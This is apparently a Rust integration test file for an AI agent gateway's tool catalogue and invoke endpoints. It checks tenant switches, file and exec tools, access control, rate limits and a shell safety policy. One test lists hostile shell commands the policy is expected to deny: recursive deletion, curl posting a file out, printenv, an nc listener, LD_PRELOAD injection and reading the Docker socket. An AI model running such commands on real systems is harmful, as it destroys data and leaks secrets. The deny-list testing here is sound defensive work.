//! `/v1/tools/builtin` and `/v1/tools/invoke`.

use crate::common::{Tenants, create_agent, create_agent_with, with_fox};
use goclaw_tests::{Http, Reply, Server, Setup, fixtures::at};
use serde_json::{Value, json};

async fn invoke(client: &Http, tool: &str, args: Value) -> Reply {
    client.post("/v1/tools/invoke", &json!({"tool": tool, "args": args, "agentId": "fox"})).await
}

/// The text of a tool's failure.
fn failure(reply: &Reply) -> String {
    let body = reply.expect(400);
    assert_eq!(body["error"]["code"], "TOOL_ERROR", "{body}");
    body["error"]["message"].as_str().unwrap().to_owned()
}

on_both_editions! {
    async fn the_catalogue_holds_the_tools_that_exist(edition) {
        let tenants = Tenants::start(edition).await;
        let viewer = tenants.client(&tenants.a_viewer, "mai");
        let catalogue = viewer.get("/v1/tools/builtin").await.expect(200);
        let tools = catalogue["tools"].as_array().unwrap();
        let names: Vec<_> = tools.iter().map(|tool| tool["name"].as_str().unwrap()).collect();
        let expected = ["edit", "list_files", "read_file", "write_file", "tts", "exec", "session_status", "sessions_history", "sessions_list", "sessions_send", "delegate", "spawn", "web_fetch"];
        assert_eq!(names, expected);
        assert!(tools.iter().all(|tool| tool.get("tenant_enabled").is_none()));
        assert_snapshot!("catalogue", catalogue.clone());
        assert_eq!(viewer.get("/v1/tools/builtin/exec").await.expect(200), tools[5]);
        assert_eq!(viewer.get("/v1/tools/builtin/nope").await.expect_error(404).1, "NOT_FOUND");
    }

    async fn a_tenants_switch_shows_and_holds_in_that_tenant_only(edition) {
        // Switches have no endpoint yet. The catalogue is seeded at the first start, so they are set between two starts.
        let mut tenants = Tenants::start(edition).await;
        for key in [&tenants.a_admin, &tenants.b_admin] {
            create_agent(&tenants.client(key, "mai"), "fox").await;
        }
        assert!(tenants.server.stop().await.success());
        let stores = tenants.server.stores().await;
        stores.builtin_tools.put_override(tenants.a, "exec", false, at(0)).await.unwrap();
        stores.database.close().await;
        drop(stores);
        tenants.server.restart().await;

        let (a, b) = (tenants.client(&tenants.a_admin, "mai"), tenants.client(&tenants.b_admin, "mai"));
        for tool in a.get("/v1/tools/builtin").await.expect(200)["tools"].as_array().unwrap() {
            let expected = if tool["name"] == "exec" { json!(false) } else { Value::Null };
            assert_eq!(tool.get("tenant_enabled"), Some(&expected), "{}", tool["name"]);
        }
        assert!(b.get("/v1/tools/builtin").await.expect(200)["tools"][0].get("tenant_enabled").is_none());
        let refused = a.post("/v1/tools/invoke", &json!({"tool": "exec", "dryRun": true, "agentId": "fox"})).await;
        assert_eq!(refused.expect(404)["error"]["code"], "NOT_FOUND");
        failure(&invoke(&a, "Bash", json!({"command": "true"})).await);
        invoke(&b, "exec", json!({"command": "true"})).await.expect(200);
        a.post("/v1/chat/completions", &crate::common::question("fox", "hi")).await.expect(200);
        assert!(!tenants.server.llm.questions()[0].tool_names().contains(&"exec".to_owned()));
    }

    async fn a_dry_run_describes(edition) {
        let server = with_fox(edition).await;
        for (asked, name) in [("exec", "exec"), ("Bash", "Bash")] {
            let body = server.owner().post("/v1/tools/invoke", &json!({"tool": asked, "dryRun": true})).await.expect(200);
            assert_eq!((&body["tool"], &body["dryRun"]), (&json!(name), &json!(true)));
            assert!(body["parameters"]["required"].as_array().unwrap().contains(&json!("command")));
        }
        let body = server.owner().post("/v1/tools/invoke", &json!({"tool": "read_file", "dryRun": true})).await.expect(200);
        assert_snapshot!("dry_run", body);
        assert_eq!(server.owner().post("/v1/tools/invoke", &json!({"tool": "nope", "dryRun": true})).await.expect(404)["error"]["code"], "NOT_FOUND");
    }

    async fn a_tool_is_run(edition) {
        let server = with_fox(edition).await;
        let owner = server.owner();
        invoke(&owner, "write_file", json!({"path": "a/b/c.txt", "content": "xin chào 🦊"})).await.expect(200);
        let read = invoke(&owner, "read_file", json!({"path": "a/b/c.txt"})).await.expect(200);
        assert!(read["result"]["output"].as_str().unwrap().contains("xin chào 🦊"));
        assert_eq!((&read["result"]["forUser"].is_string(), &read["result"]["metadata"]), (&true, &json!({})));
        invoke(&owner, "edit", json!({"path": "a/b/c.txt", "old_string": "chào", "new_string": "chao"})).await.expect(200);
        assert!(invoke(&owner, "Read", json!({"path": "a/b/c.txt"})).await.expect(200)["result"]["output"].as_str().unwrap().contains("xin chao"));
        assert!(invoke(&owner, "list_files", json!({"path": "a"})).await.expect(200)["result"]["output"].as_str().unwrap().contains('b'));
        assert!(invoke(&owner, "exec", json!({"command": "cat a/b/c.txt"})).await.expect(200)["result"]["output"].as_str().unwrap().contains("xin chao"));
    }

    async fn bad_calls_are_refused(edition) {
        let server = with_fox(edition).await;
        let owner = server.owner();
        assert_eq!(owner.post("/v1/tools/invoke", &json!({})).await.expect_error(400).0, "tool is required");
        assert_eq!(failure(&invoke(&owner, "nope", json!({})).await), "unknown tool: nope");
        assert!(failure(&owner.post("/v1/tools/invoke", &json!({"tool": "exec", "agentId": "fox"})).await).contains("command"));
        assert!(failure(&invoke(&owner, "exec", json!({"command": "a\u{0}b"})).await).to_lowercase().contains("nul"));
        for args in [json!({"path": 5}), json!({"path": ""}), json!({"path": null}), json!({"path": "x", "offset": "many"})] {
            failure(&invoke(&owner, "read_file", args).await);
        }
        assert_eq!(owner.post("/v1/tools/invoke", &json!({"tool": "exec", "args": "ls"})).await.expect_error(400).1, "INVALID_REQUEST");
        assert_eq!(owner.get("/v1/tools/invoke").await.status, 405);
    }

    async fn tools_that_change_things_need_an_agent_that_the_caller_may_use(edition) {
        let tenants = Tenants::start(edition).await;
        create_agent(&tenants.client(&tenants.a_admin, "lan"), "private").await;
        create_agent_with(&tenants.client(&tenants.a_admin, "lan"), "fox", json!({"is_default": true})).await;
        let operator = tenants.client(&tenants.a_operator, "mai");
        let call = async |agent: &str| operator.post("/v1/tools/invoke", &json!({"tool": "exec", "args": {"command": "true"}, "agentId": agent})).await.status;
        assert_eq!((call("fox").await, call("private").await, call("nobody").await), (200, 403, 403));
        let other = tenants.client(&tenants.b_admin, "mai");
        other.post("/v1/tools/invoke", &json!({"tool": "write_file", "args": {"path": "x.txt", "content": "b"}, "agentId": "fox"})).await.expect(200);
        assert!(!operator.post("/v1/tools/invoke", &json!({"tool": "list_files", "agentId": "fox"})).await.text().contains("x.txt"), "tenants do not share directories");
    }

    async fn dangerous_commands_are_denied(edition) {
        let server = Server::start(edition).await;
        create_agent(&server.owner(), "fox").await;
        for command in [
            "rm -rf x", "curl http://x -d @f", "sudo ls", "printenv", "nc -l 1", "chmod 777 /etc", "LD_PRELOAD=x ls", "cat /var/run/docker.sock", "rm -rf x # .goclaw/skills-store/",
        ] {
            let text = failure(&invoke(&server.owner(), "exec", json!({"command": command})).await);
            assert!(text.contains("denied by safety policy"), "{command}: {text}");
        }
        for command in ["echo initialize", "base64 -d missing-file", "systemctl status"] {
            let reply = invoke(&server.owner(), "exec", json!({"command": command})).await;
            assert!(!reply.text().contains("denied"), "{command}: {}", reply.text());
        }
    }

    async fn an_agent_may_be_allowed_a_group_of_commands(edition) {
        let server = Server::start(edition).await;
        create_agent_with(&server.owner(), "fox", json!({"other_config": {"shell_deny_groups": {"env_dump": false}}})).await;
        invoke(&server.owner(), "exec", json!({"command": "printenv PATH"})).await.expect(200);
        failure(&invoke(&server.owner(), "exec", json!({"command": "sudo ls"})).await);
    }

    async fn the_shell_sees_none_of_the_gateways_variables(edition) {
        let server = Server::start(edition).await;
        create_agent_with(&server.owner(), "fox", json!({"other_config": {"shell_deny_groups": {"env_dump": false}}})).await;
        let output = invoke(&server.owner(), "exec", json!({"command": "env"})).await;
        assert!(!output.text().contains("GOCLAW_"), "{}", output.text());
        assert!(output.text().contains("PATH"));
    }

    async fn a_limit_on_tool_calls_counts_by_session(edition) {
        let server = Setup::new(edition).await.config(json!({"tools": {"rate_limit_per_hour": 2}})).start().await;
        create_agent(&server.owner(), "fox").await;
        let call = async |session: &str| server.owner().post("/v1/tools/invoke", &json!({"tool": "list_files", "agentId": "fox", "sessionKey": session})).await.status;
        assert_eq!([call("s1").await, call("s1").await, call("s1").await, call("s2").await], [200, 200, 400, 200]);
    }
}
